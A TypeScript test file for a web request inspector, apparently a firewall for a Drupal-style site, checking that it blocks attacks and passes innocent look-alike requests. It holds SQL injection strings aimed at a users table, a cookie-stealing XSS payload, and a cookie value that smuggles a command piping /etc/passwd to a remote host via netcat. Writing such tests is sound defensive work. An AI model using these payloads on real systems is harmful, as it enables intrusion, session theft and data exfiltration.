// What the shipped inspector says of whole requests: attacks, the same attacks altered, and innocent requests that look
// like them.

import type { InspectedRequest, Inspection } from '@parapet/kinds';
import { beforeAll, describe, expect, it } from 'vitest';
import { prepareInspector } from '../../src/inspection/prepareInspector.ts';

let inspector: ReturnType<typeof prepareInspector>;

beforeAll(() => {
  inspector = prepareInspector();
});

const BROWSER: readonly (readonly [string, string])[] = [
  ['host', 'www.example.org'],
  ['user-agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'],
  ['accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
  ['accept-language', 'de,en-US;q=0.7,en;q=0.3'],
];

function get(rawTarget: string, headers: readonly (readonly [string, string])[] = []): Inspection {
  return inspector.inspect(requestOf('GET', rawTarget, headers, undefined));
}

function post(rawTarget: string, type: string, body: string): Inspection {
  return inspector.inspect(requestOf('POST', rawTarget, [['content-type', type]], Buffer.from(body)));
}

function form(rawTarget: string, fields: Readonly<Record<string, string>>): Inspection {
  return post(rawTarget, 'application/x-www-form-urlencoded', new URLSearchParams(fields).toString());
}

function requestOf(
  method: string,
  rawTarget: string,
  headers: readonly (readonly [string, string])[],
  body: Uint8Array | undefined,
): InspectedRequest {
  return { method, rawTarget, headers: [...BROWSER, ...headers], body, isBodyCut: false, site: '' };
}

const isStopped = ({ action }: Inspection): boolean => action === 'block' || action === 'reject';

describe('an injection into a query', () => {
  const payload = "1' UNION SELECT name, pass FROM users_field_data-- -";

  it('is blocked, and says where and why', () => {
    const { action, class: found, score, reasons } = get(`/search/node?keys=${encodeURIComponent(payload)}`);
    expect([action, found]).toEqual(['block', 'sqli']);
    expect(score).toBeGreaterThan(0.99);
    expect(reasons[0]!.foundIn).toMatchObject({ placement: 'query', name: 'keys' });
    expect(reasons[0]!.foundIn.excerpt.length).toBeGreaterThan(5);
    expect(reasons[0]!.foundIn.excerpt.length).toBeLessThanOrEqual(122);
  });

  it('is blocked when it is altered: comments, case, encoding, other literals', () => {
    for (const altered of [
      "9'/**/uNiOn/**/sElEcT/**/name,pass/**/from/**/users_field_data#",
      encodeURIComponent(payload).replaceAll('%', '%25'),
      "7' union all select mail,init from users_field_data where '1'='1",
    ])
      expect(isStopped(get(`/search/node?keys=${encodeURIComponent(altered)}`)), altered).toBe(true);
  });

  it('is not what people search for', () => {
    for (const words of ["rock 'n' roll union of select artists", 'select a union representative', "O'Brien"])
      expect(get(`/search/node?keys=${encodeURIComponent(words)}`).action, words).toBe('pass');
  });
});

describe('script in a comment', () => {
  it('is blocked, as a form, as JSON and as multipart', () => {
    const script = '<img src=x onerror=alert(document.cookie)>';
    expect(form('/comment/reply/node/1/comment', { name: 'a', subject: script }).class).toBe('xss');
    const json = JSON.stringify({ data: { attributes: { title: script } } });
    expect(post('/jsonapi/node/article', 'application/vnd.api+json', json).class).toBe('xss');
    const part = `--b\r\nContent-Disposition: form-data; name="subject"\r\n\r\n${script}\r\n--b--\r\n`;
    expect(isStopped(post('/comment/reply/node/1/comment', 'multipart/form-data; boundary=b', part))).toBe(
      true,
    );
  });

  it('is not the rich text of an editor', () => {
    const text =
      '<h2>News</h2><p>See <a href="/node/2">here</a> &amp; <em>there</em>: <img src="/files/a.png" alt="A"></p>';
    const verdict = form('/node/1/edit', {
      form_id: 'node_article_edit_form',
      'title[0][value]': 'News',
      'body[0][value]': text,
      'body[0][format]': 'basic_html',
    });
    expect(verdict.action).toBe('pass');
  });
});

describe('a command for the server', () => {
  it('is blocked in a header and in a cookie', () => {
    expect(isStopped(get('/', [['cookie', 'a=1; b=$(cat /etc/passwd|nc 192.0.2.1 4444)']]))).toBe(true);
  });

  it('is not where a visitor of a site in an intranet comes from', () => {
    for (const from of ['http://127.0.0.1:20001/page', 'http://192.168.1.20/node/1', 'http://intranet/'])
      expect(get('/', [['referer', from]]), from).toMatchObject({ action: 'pass', reasons: [] });
  });

  it('is not a visit with the usual headers', () => {
    const headers = [
      ['cookie', '_ga=GA1.2.1826593302.1644013078; SESS00a8578c7c9d95f4=bON5h-Lu78rctuBd3sOF7M1D9vxgkGRHXe'],
      ['referer', 'https://www.example.org/node/1?page=2&sort=title'],
      ['sec-ch-ua', '"Chromium";v="125", "Google Chrome";v="125", "Not?A_Brand";v="8"'],
    ] as const;
    expect(get('/', headers)).toMatchObject({ action: 'pass', reasons: [] });
  });
});

describe('a password', () => {
  it('may be anything, and is never shown', () => {
    const verdict = form('/user/login', {
      name: 'anna',
      pass: "' OR 1=1 -- <script>",
      form_id: 'user_login_form',
    });
    expect(verdict).toMatchObject({ action: 'pass', reasons: [] });
  });
});
